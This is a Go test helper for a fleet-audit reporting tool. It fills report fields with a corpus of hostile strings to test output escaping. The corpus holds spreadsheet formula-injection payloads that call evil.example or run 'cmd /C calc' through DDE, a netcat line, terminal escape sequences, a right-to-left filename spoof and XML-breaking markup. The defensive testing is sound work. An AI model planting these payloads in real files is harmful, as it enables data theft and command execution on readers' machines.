package formattest

import (
	"iter"
	"strings"

	"github.com/fleetaudit/fleetaudit/report"
)

// Corpus is text that hosts must not be able to do anything with: formulas of several spreadsheets, links, control characters, text that
// looks like something else, text that is no text, escapes of the file format, and more than a cell takes.
var Corpus = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1-1`,
	`-rw-r----- 1 root root`,
	`|nc evil.example 1`,
	`%PATH%`,
	"\t=1+1",
	"\r\n=1+1",
	"  \u00a0=1+1",
	"＝1+1",
	`=WEBSERVICE("http://evil.example")`,
	`=DDE("cmd";"/C calc";"x")`,
	"\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[31mred\x1b[0m",
	"nul\x00 bell\x07 del\x7f",
	"over\u202egnp.exe",
	"zero\u200bwidth\u200d\ufeff",
	"bad \xff\xfe\xc3\x28 utf8",
	"non\uffff\ufffecharacters",
	"tags\U000E0041\U000E0042",
	"_x0041_ _x000D_ _x005F_x0041_",
	"]]></t><f>1+1</f><!-- & <a href='x'>",
	`"quoted","comma";semi`,
	"many\nlines\r\nand\rreturns\u2028\u2029\u0085",
	strings.Repeat("long ", 9000),
	strings.Repeat("\U0001F512", 20000),
	"&8&L&\"Arial\"&Pfooter && codes",
	"'already quoted",
	"",
}

// hostile replaces the texts of a. The n-th text takes the n-th of the corpus, so that each field meets several.
func hostile(a *report.Assessment) *report.Assessment {
	h := &poison{}
	r := &a.Run
	h.texts(&r.Entity, &r.Assessor, &r.Authority, &r.Operator, &r.Controller, &r.Inventory, &r.PopulationFile, &r.PopulationSource, &r.PopulationBy, &r.BundlePath)
	for i := range r.Notices {
		h.texts(&r.Notices[i])
	}
	for i := range r.BaselineValues {
		h.texts(&r.BaselineValues[i].Value, &r.BaselineValues[i].Source, &r.BaselineValues[i].Note)
	}
	for i := range a.Systems {
		h.texts(&a.Systems[i].Name)
	}
	for i := range a.Gaps {
		h.texts(&a.Gaps[i].Reason, &a.Gaps[i].Example)
	}
	for i := range a.Findings {
		f := &a.Findings[i]
		h.texts(&f.Observed, &f.Expected)
		f.Failing = append([]string{Corpus[i%len(Corpus)]}, f.Failing...)
	}
	a.Streams.Hosts = changed(a.Streams.Hosts, func(h *poison, x *report.HostRow) {
		h.texts(&x.Address, &x.System, &x.Env, &x.Zone, &x.OS, &x.Why, &x.Privilege, &x.HostKey, &x.KeyTrust, &x.User, &x.Jump)
	})
	a.Streams.Results = changed(a.Streams.Results, func(h *poison, x *report.ResultRow) { h.texts(&x.System, &x.Reason, &x.Expected, &x.Observed) })
	a.Streams.Evidence = changed(a.Streams.Evidence, func(h *poison, x *report.EvidenceRow) { h.texts(&x.Command, &x.RunAs, &x.Excerpt) })
	a.Streams.Log = changed(a.Streams.Log, func(h *poison, x *report.LogRow) { h.texts(&x.Host, &x.Detail) })
	a.Streams.Files = changed(a.Streams.Files, func(h *poison, x *report.FileRow) { h.texts(&x.What, &x.Path) })
	return a
}

// poison hands out the corpus in turn.
type poison struct{ next int }

func (h *poison) texts(to ...*string) {
	for _, s := range to {
		*s = Corpus[h.next%len(Corpus)]
		h.next++
	}
}

func changed[T any](rows func() iter.Seq2[T, error], change func(*poison, *T)) func() iter.Seq2[T, error] {
	return func() iter.Seq2[T, error] {
		return func(yield func(T, error) bool) {
			h := &poison{}
			for row, err := range rows() {
				change(h, &row)
				if !yield(row, err) {
					return
				}
			}
		}
	}
}
